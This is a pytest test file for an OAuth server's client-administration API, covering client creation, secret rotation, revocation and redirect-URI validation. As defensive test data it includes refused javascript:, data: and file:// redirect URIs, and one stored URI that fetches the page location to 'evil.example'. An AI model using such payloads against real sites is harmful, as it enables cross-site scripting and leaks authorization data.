"""Client administration: list, create, update, rotate-secret, soft revoke."""

from __future__ import annotations

import pytest
from authlib.integrations.base_client import OAuthError as AuthlibOAuthError

from common.crypto import sha256_hex
from tests.oauth.conftest import ADMIN, ALICE, REDIRECT_URI, VERIFIER, OAuthServer
from tests.oauth.host import USER_HEADER, TestHost

AS_ADMIN = {USER_HEADER: str(ADMIN)}


async def test_create_confidential_client_returns_secret_once(oauth_server: OAuthServer):
    created = await oauth_server.create_client(name="Mail app")
    assert created["client_secret"]
    assert created["public"] is False
    assert created["created_by"] == ADMIN
    assert "client_secret_hash" not in created
    stored = await oauth_server.config.db.fetch_one(
        "SELECT client_secret_hash, redirect_uris FROM oauth.oauth_clients WHERE client_id = %s",
        (created["client_id"],),
    )
    assert stored["client_secret_hash"] == sha256_hex(created["client_secret"])
    assert stored["redirect_uris"] == f'["{REDIRECT_URI}"]'
    listed = await oauth_server.http.get(oauth_server.admin_url("/clients"), headers=AS_ADMIN)
    assert listed.status_code == 200
    [row] = listed.json()["clients"]
    assert row["client_id"] == created["client_id"]
    assert "client_secret" not in row
    assert "client_secret_hash" not in row


async def test_admin_routes_need_an_admin(oauth_server: OAuthServer):
    resp = await oauth_server.http.get(oauth_server.admin_url("/clients"))
    assert resp.status_code == 401
    resp = await oauth_server.http.get(
        oauth_server.admin_url("/clients"), headers={USER_HEADER: str(ALICE)}
    )
    assert resp.status_code == 403
    assert resp.json()["error"] == "access_denied"


@pytest.mark.parametrize(
    ("body", "error"),
    [
        (
            {"redirect_uris": [REDIRECT_URI], "allowed_scopes": ["openid"]},
            "invalid_client_metadata",
        ),
        ({"name": "x", "redirect_uris": [], "allowed_scopes": ["openid"]}, "invalid_redirect_uri"),
        (
            {"name": "x", "redirect_uris": ["/relative"], "allowed_scopes": ["openid"]},
            "invalid_redirect_uri",
        ),
        (
            {"name": "x", "redirect_uris": [REDIRECT_URI + "#frag"], "allowed_scopes": ["openid"]},
            "invalid_redirect_uri",
        ),
        (
            {"name": "x", "redirect_uris": ["http://client.example/cb"], "allowed_scopes": []},
            "invalid_redirect_uri",
        ),
        (
            {"name": "x", "redirect_uris": [REDIRECT_URI], "allowed_scopes": ["root"]},
            "invalid_client_metadata",
        ),
        (
            {"name": "x", "redirect_uris": [REDIRECT_URI], "allowed_scopes": ["openid"], "x": 1},
            "invalid_client_metadata",
        ),
    ],
)
async def test_create_validates(oauth_server: OAuthServer, body: dict, error: str):
    resp = await oauth_server.http.post(
        oauth_server.admin_url("/clients"), json=body, headers=AS_ADMIN
    )
    assert resp.status_code == 400
    assert resp.json()["error"] == error


ACCEPTED_REDIRECT_URIS = (
    "https://client.example/callback?tenant=1",
    "http://127.0.0.1:8080/cb",
    "http://[::1]:8080/cb",
    "http://localhost:3000/cb",
    "com.example.app:/oauth2redirect",
)
REFUSED_REDIRECT_URIS = (
    "javascript:alert(document.domain)//",
    "JavaScript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
    "myapp:/callback",  # a private-use scheme must be reverse-domain (RFC 8252 7.1)
    "http://client.example/cb",  # plain http off loopback
    "https://user:pw@client.example/cb",  # userinfo
    "https://client.example/cb#frag",
    "/relative/cb",
    "https:///no-host",
    "https://client.example/c b",
)


async def test_loopback_http_https_and_private_schemes_are_accepted(oauth_server: OAuthServer):
    created = await oauth_server.create_client(redirect_uris=ACCEPTED_REDIRECT_URIS)
    assert created["redirect_uris"] == list(ACCEPTED_REDIRECT_URIS)
    resp = await oauth_server.http.patch(
        oauth_server.admin_url(f"/clients/{created['id']}"),
        json={"redirect_uris": list(reversed(ACCEPTED_REDIRECT_URIS))},
        headers=AS_ADMIN,
    )
    assert resp.status_code == 200
    assert resp.json()["redirect_uris"] == list(reversed(ACCEPTED_REDIRECT_URIS))


@pytest.mark.parametrize("uri", REFUSED_REDIRECT_URIS)
async def test_redirect_uri_refused_at_creation_and_update(oauth_server: OAuthServer, uri: str):
    client = await oauth_server.create_client()
    created = await oauth_server.http.post(
        oauth_server.admin_url("/clients"),
        json={"name": "x", "redirect_uris": [REDIRECT_URI, uri], "allowed_scopes": ["openid"]},
        headers=AS_ADMIN,
    )
    updated = await oauth_server.http.patch(
        oauth_server.admin_url(f"/clients/{client['id']}"),
        json={"redirect_uris": [uri]},
        headers=AS_ADMIN,
    )
    assert created.status_code == 400
    assert created.json()["error"] == "invalid_redirect_uri"
    assert created.json()["error_description"].startswith("redirect_uris[1]: ")
    assert updated.status_code == 400
    assert updated.json()["error"] == "invalid_redirect_uri"
    assert updated.json()["error_description"].startswith("redirect_uris[0]: ")
    listed = await oauth_server.http.get(oauth_server.admin_url("/clients"), headers=AS_ADMIN)
    assert [c["redirect_uris"] for c in listed.json()["clients"]] == [[REDIRECT_URI]]


async def test_a_stored_javascript_redirect_uri_is_never_redirected_to(
    oauth_server: OAuthServer,
):
    # A row written before the registration rules (or by hand) keeps its bad URI.
    from oauth.rfc7636 import s256_challenge

    client = await oauth_server.create_client()
    evil = "javascript:fetch('//evil.example/'+location)//"
    await oauth_server.config.db.execute(
        "UPDATE oauth.oauth_clients SET redirect_uris = %s WHERE id = %s",
        (f'["{evil}"]', client["id"]),
    )
    params = {
        "client_id": client["client_id"],
        "redirect_uri": evil,
        "response_type": "code",
        "scope": "openid",
        "state": "s",
        "code_challenge": s256_challenge(VERIFIER),
        "code_challenge_method": "S256",
    }
    as_alice = {USER_HEADER: str(ALICE)}
    for resp in (
        await oauth_server.http.get(
            oauth_server.url("/authorize/info"), params=params, headers=as_alice
        ),
        await oauth_server.http.post(
            oauth_server.url("/authorize/approve"), json=params, headers=as_alice
        ),
        await oauth_server.http.post(
            oauth_server.url("/authorize/deny"), json=params, headers=as_alice
        ),
        # Even an error that would carry a redirect_url must not.
        await oauth_server.http.post(
            oauth_server.url("/authorize/approve"),
            json={**params, "response_type": "token"},
            headers=as_alice,
        ),
    ):
        assert resp.status_code == 400
        assert resp.json()["error"] == "invalid_request"
        assert "redirect_url" not in resp.json()
    codes = await oauth_server.config.db.fetch_val(
        "SELECT count(*) FROM oauth.oauth_authorization_codes"
    )
    assert codes == 0


async def test_update_changes_metadata(oauth_server: OAuthServer, host: TestHost):
    created = await oauth_server.create_client()
    resp = await oauth_server.http.patch(
        oauth_server.admin_url(f"/clients/{created['id']}"),
        json={
            "name": "Renamed",
            "description": "A mail client",
            "scopes": ["openid"],
            "redirect_uris": ["https://new.example/cb"],
        },
        headers=AS_ADMIN,
    )
    assert resp.status_code == 200
    body = resp.json()
    assert body["name"] == "Renamed"
    assert body["description"] == "A mail client"
    assert body["allowed_scopes"] == ["openid"]
    assert body["redirect_uris"] == ["https://new.example/cb"]
    assert "client_secret" not in body
    bad = await oauth_server.http.patch(
        oauth_server.admin_url(f"/clients/{created['id']}"),
        json={"redirect_uris": ["https://x.example/cb#f"]},
        headers=AS_ADMIN,
    )
    assert bad.status_code == 400
    assert "oauth.client.updated" in host.event_names()


async def test_unknown_client_is_404(oauth_server: OAuthServer):
    for method, path in (
        ("PATCH", "/clients/999"),
        ("POST", "/clients/999/rotate-secret"),
        ("DELETE", "/clients/999"),
        ("DELETE", "/clients/abc"),
    ):
        resp = await oauth_server.http.request(
            method, oauth_server.admin_url(path), json={"name": "x"}, headers=AS_ADMIN
        )
        assert resp.status_code == 404, path
        assert resp.json()["error"] == "not_found"


async def test_rotate_secret_invalidates_refresh_tokens(oauth_server: OAuthServer):
    created = await oauth_server.create_client()
    async with oauth_server.oauth_client(created) as oauth:
        tokens = await oauth_server.tokens(oauth)
    resp = await oauth_server.http.post(
        oauth_server.admin_url(f"/clients/{created['id']}/rotate-secret"), headers=AS_ADMIN
    )
    assert resp.status_code == 200
    new_secret = resp.json()["client_secret"]
    assert new_secret != created["client_secret"]
    async with oauth_server.oauth_client(created) as old:
        with pytest.raises(AuthlibOAuthError) as err:
            await old.refresh_token(
                oauth_server.url("/token"), refresh_token=tokens["refresh_token"]
            )
        assert err.value.error == "invalid_client"
    async with oauth_server.oauth_client(dict(created, client_secret=new_secret)) as new:
        with pytest.raises(AuthlibOAuthError) as err:
            await new.refresh_token(
                oauth_server.url("/token"), refresh_token=tokens["refresh_token"]
            )
        assert err.value.error == "invalid_grant"
        # The new secret works for new grants.
        assert (await oauth_server.tokens(new))["access_token"]


async def test_public_client_has_no_secret_to_rotate(oauth_server: OAuthServer):
    created = await oauth_server.create_client(public=True)
    resp = await oauth_server.http.post(
        oauth_server.admin_url(f"/clients/{created['id']}/rotate-secret"), headers=AS_ADMIN
    )
    assert resp.status_code == 400


async def test_revoked_client_can_no_longer_authorize_exchange_or_refresh(
    oauth_server: OAuthServer, host: TestHost
):
    created = await oauth_server.create_client()
    async with oauth_server.oauth_client(created) as oauth:
        tokens = await oauth_server.tokens(oauth)
        pending_code_url = await oauth_server.authorize(oauth, VERIFIER)
        resp = await oauth_server.http.delete(
            oauth_server.admin_url(f"/clients/{created['id']}"), headers=AS_ADMIN
        )
        assert resp.status_code == 200
        assert resp.json()["revoked_at"] is not None
        with pytest.raises(AuthlibOAuthError) as err:
            await oauth.fetch_token(
                oauth_server.url("/token"),
                authorization_response=pending_code_url,
                code_verifier=VERIFIER,
            )
        assert err.value.error == "invalid_client"
        with pytest.raises(AuthlibOAuthError) as err:
            await oauth.refresh_token(
                oauth_server.url("/token"), refresh_token=tokens["refresh_token"]
            )
        assert err.value.error == "invalid_client"
        url, _ = oauth.create_authorization_url(
            oauth_server.url("/authorize"), code_verifier=VERIFIER
        )
    assert (await oauth_server.consent(url)).status_code == 400
    rows = await oauth_server.config.db.fetch_all(
        "SELECT revoked_reason FROM oauth.oauth_refresh_tokens"
    )
    assert [r["revoked_reason"] for r in rows] == ["client_revoked"]
    # Revoking again: the client is no longer active.
    again = await oauth_server.http.delete(
        oauth_server.admin_url(f"/clients/{created['id']}"), headers=AS_ADMIN
    )
    assert again.status_code == 404
    assert "oauth.client.revoked" in host.event_names()


async def test_revoked_clients_access_tokens_are_inactive(oauth_server: OAuthServer):
    app = await oauth_server.create_client()
    rs = await oauth_server.create_client()
    async with oauth_server.oauth_client(app) as oauth:
        tokens = await oauth_server.tokens(oauth)
    await oauth_server.http.delete(
        oauth_server.admin_url(f"/clients/{app['id']}"), headers=AS_ADMIN
    )
    async with oauth_server.oauth_client(rs) as resource_server:
        info = await resource_server.introspect_token(
            oauth_server.url("/introspect"), token=tokens["access_token"]
        )
    assert info.json() == {"active": False}
